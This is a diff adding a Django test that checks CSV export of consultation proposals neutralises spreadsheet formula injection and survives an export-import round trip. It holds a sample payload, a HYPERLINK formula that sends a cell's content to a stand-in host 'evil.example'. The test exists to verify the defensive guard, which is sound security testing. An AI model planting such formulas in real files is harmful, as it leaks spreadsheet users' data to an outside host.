@@ -294,3 +294,55 @@ def test_the_admin_is_read_only_and_for_coordinators(cast, client):
     client.post(url, {"title": "piraté"})
     proposal.refresh_from_db()
     assert proposal.title == "Ouvrir les données des marchés publics"
+
+
+MALICIOUS = '=HYPERLINK("http://evil.example/?"&A1;"clic")'
+
+
+def test_the_csv_export_guards_formulas_in_text_never_numbers_and_the_round_trip_holds(cast):
+    """CSV injection: a title, a text, an author or a reason starting with = + - @ (or a tab)
+    leaves as text (« ' » first, the API's guard); numbers and dates stay as they are; the
+    import takes the guard off, so export → import changes nothing."""
+    import csv
+
+    from consultations import fileformat
+
+    rows = csv_file(
+        line("P1", MALICIOUS.replace('"', '""'), numbers="1; 2", author="@attaquant"),
+        line(
+            "P2",
+            "Titre",
+            outcome="non retenue",
+            reason="-Hors du champ du plan",
+            numbers="",
+        ),
+        line("-3", "+33 1 23 45 67 89", numbers="3"),  # a number stays a number
+    )
+    assert run(cast, rows).ok
+    assert Proposal.objects.get(external_id="P1").title == MALICIOUS
+    # typed in the workspace: a title that already looks guarded keeps its quote
+    Proposal.objects.filter(external_id="P2").update(title="'=déjà une apostrophe")
+    before, audits = snapshot(), AuditRecord.objects.count()
+    exported = proposals_export(
+        consultation=Consultation.objects.get(), fmt="csv", actor=cast.coordinator
+    )
+    table = list(csv.DictReader(io.StringIO(exported.decode())))
+    by_id = {r["identifiant"]: r for r in table}
+    assert by_id["P1"]["titre"] == "'" + MALICIOUS
+    assert by_id["P1"]["auteur"] == "'@attaquant"
+    assert by_id["P2"]["titre"] == "''=déjà une apostrophe"
+    assert by_id["P2"]["motif"] == "'-Hors du champ du plan"
+    assert by_id["-3"]["titre"] == "'+33 1 23 45 67 89"
+    assert by_id["-3"]["identifiant"] == "-3"  # a number: never guarded
+    assert by_id["P1"]["consultation_debut"] == "2015-01-05"
+    assert by_id["P1"]["engagements"] == "1; 2"
+    for row in table:  # no cell a spreadsheet would run
+        for value in row.values():
+            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
+            assert not value.startswith("-") or value == "-3", value
+    report = run(cast, exported, filename="export.csv")
+    assert report.ok, report.lines()
+    assert report.counts == {"created": 0, "updated": 0, "unchanged": 3}
+    assert snapshot() == before and AuditRecord.objects.count() == audits
+    for text in (MALICIOUS, "'=x", "''+y", "-12.5", "'-12.5", "@a", "plain", "'plain", ""):
+        assert fileformat.unguard(fileformat.guard(text)) == text
